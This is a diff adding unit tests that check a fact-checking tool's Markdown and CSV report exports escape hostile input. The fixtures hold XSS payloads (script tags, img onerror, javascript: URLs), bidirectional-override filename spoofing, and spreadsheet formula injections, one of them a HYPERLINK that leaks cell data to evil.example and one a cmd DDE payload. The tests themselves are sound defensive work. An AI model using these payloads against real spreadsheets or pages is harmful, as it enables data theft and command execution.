@@ -6,6 +6,12 @@ import { join } from 'node:path';
 import { importBrat } from '../../../src/core/brat';
 import { type Annotations, anchorAt, emptyAnnotations } from '../../../src/core/model';
 import { CSV_COLUMNS, exportClaimsCsv, exportMarkdownReport } from '../../../src/core/report';
+import { DEFAULT_VERDICT_SCALE } from '../../../src/core/verdicts';
+
+// The Markdown renderer VS Code's preview uses, with raw HTML on: what a reader of the report would get.
+// eslint-disable-next-line @typescript-eslint/no-require-imports
+const MarkdownIt = require('markdown-it') as new (options: { html: boolean }) => { render(md: string): string };
+const render = (md: string) => new MarkdownIt({ html: true }).render(md);
 
 const FIXTURES = join(__dirname, '../../../../test/fixtures/brat');
 
@@ -108,6 +114,41 @@ describe('report', () => {
       assert.match(md, /### 3\. “We have agreed/);
     });
 
+    it('lets no sidecar value out of its place: no raw HTML, no new block, one table cell', () => {
+      const hostile = 'x`\n\n<img src=x onerror=alert(1)>\r<script>alert(2)</script>\u2028| a | b |\u202Eexe.txt';
+      const t = 'The mayor said the bridges are safe.';
+      const a = emptyAnnotations(`bridges${hostile}.txt`);
+      a.article.url = 'javascript:alert(3)';
+      a.actors.push({ id: 'mayor', name: `Mayor ${hostile}`, type: 'person', wikidata: 'Q1"><img src=x>' as string, mentions: [anchorAt(t, 4, 9)] });
+      a.claims.push({
+        id: 'c1',
+        anchor: anchorAt(t, 15, t.length - 1),
+        claimant: 'mayor',
+        status: 'checked',
+        verdict: `false${hostile}`,
+        sources: [{ url: 'https://example.org/(x)<img src=x>', title: hostile, archived: 'javascript:alert(4)', accessed: `2024-01-01${hostile}` }],
+        notes: `First.\r\r    indented code?\n===\n- [x](javascript:alert(5))\n${hostile}`,
+      });
+      const md = exportMarkdownReport(a, t);
+      const html = render(md);
+      assert.doesNotMatch(html, /<img|<script|href="(?!https?:)/i, html);
+      // Only the report's own blocks: no code block, and the one code span is the file name.
+      assert.doesNotMatch(html, /<pre|<blockquote/, html);
+      assert.equal((html.match(/<code>/g) ?? []).length, 1, html);
+      assert.deepEqual(html.match(/<h\d/g), ['<h1', '<h2', '<h3', '<h2'], html);
+      assert.doesNotMatch(md, /[\r\u2028\u202E]/);
+      assert.match(html, /⟨U\+202E⟩exe\.txt/);
+      // Every table row keeps its three cells; the verdict table its two.
+      for (const row of md.split('\n').filter((l) => l.startsWith('| '))) {
+        const cells = row.replace(/\\\|/g, '').split('|').length - 2;
+        assert.ok(cells === 2 || cells === 3, row);
+      }
+      assert.equal((html.match(/<tr>/g) ?? []).length, 2 + 2, html);
+      // The notes stay in their list item: one line each, no heading, list or code made of them.
+      assert.equal((html.match(/<li>/g) ?? []).length, 6, html);
+      assert.match(html, /<strong>Notes:<\/strong> First\.<br>\s*indented code\?<br>\s*===<br>/, html);
+    });
+
     it('says so when an article has no claims yet', () => {
       assert.equal(exportMarkdownReport(emptyAnnotations('blank.txt'), ''), '# Fact-check report: blank.txt\n\nArticle: `blank.txt`\n\nNo claims are marked in this article yet.\n');
     });
@@ -148,6 +189,48 @@ describe('report', () => {
       assert.equal(rows[1][0], 'rents, 2024.txt');
       assert.equal(rows[1][2], 'Rents rose 40%, in real terms, since 2019.');
       assert.equal(rows[1][10], 'Office for "National" Statistics:\r\nrents rose 21%.');
+    });
+
+    it('neutralises cells a spreadsheet would run as formulas, article text included', () => {
+      const formulas = ['=HYPERLINK("https://evil.example/?leak="&A1,"Click")', "-2+3+cmd|' /C calc'!A0", '@import', '\t=1', '\r=1', '+1', '\n=1'];
+      const t = formulas.join(' and ');
+      const a = emptyAnnotations('=1+1.txt');
+      a.actors.push({ id: 'p', name: '@SUM(1+1)', type: 'person', wikidata: 'Q1', mentions: [anchorAt(t, 0, 1)] });
+      let at = 0;
+      formulas.forEach((f, i) => {
+        a.claims.push({ id: `c${i + 1}`, anchor: anchorAt(t, at, at + f.length), claimant: 'p', status: 'checked', verdict: '-minus', sources: [], notes: f });
+        at += f.length + ' and '.length;
+      });
+      const rows = parseCsv(exportClaimsCsv([{ annotations: a, text: t }]));
+      assert.equal(rows.length, 1 + formulas.length);
+      rows.slice(1).forEach((row, i) => {
+        assert.equal(row[0], "'=1+1.txt");
+        // The claim as quoted from the article, its leading white space trimmed as the report does.
+        assert.equal(row[2], `'${formulas[i].trim()}`);
+        assert.equal(row[3], "'@SUM(1+1)");
+        assert.equal(row[6], "'-minus");
+        assert.equal(row[7], "'-minus");
+        assert.equal(row[10], `'${formulas[i]}`, 'the notes');
+      });
+    });
+
+    it('keeps numbers Newsmark writes, a negative rating included, as numbers', () => {
+      const scale = { ...DEFAULT_VERDICT_SCALE, verdicts: [{ id: 'pants-on-fire', label: 'Pants on fire', ratingValue: -1 }], worstRating: -1 };
+      const t = 'Crime fell by -40% last year.';
+      const a = emptyAnnotations('crime.txt');
+      a.claims.push({ id: 'c1', anchor: anchorAt(t, 0, t.length - 1), status: 'checked', verdict: 'pants-on-fire', sources: [] });
+      const rows = parseCsv(exportClaimsCsv([{ annotations: a, text: t }], { verdicts: scale }));
+      assert.deepEqual(rows[1].slice(8, 9), ['-1']);
+      assert.deepEqual(rows[1].slice(11), ['0', '28', 'attached']);
+    });
+
+    it('shows bidirectional controls in cells instead of applying them', () => {
+      const t = 'Invoice\u202Etxt.exe is attached.';
+      const a = emptyAnnotations('invoice.txt');
+      a.claims.push({ id: 'c1', anchor: anchorAt(t, 0, 15), status: 'unchecked', sources: [], notes: 'see \u2066x\u2069' });
+      const rows = parseCsv(exportClaimsCsv([{ annotations: a, text: t }]));
+      assert.equal(rows[1][2], 'Invoice⟨U+202E⟩txt.exe');
+      assert.equal(rows[1][10], 'see ⟨U+2066⟩x⟨U+2069⟩');
     });
 
     it('gathers several articles under one header', () => {
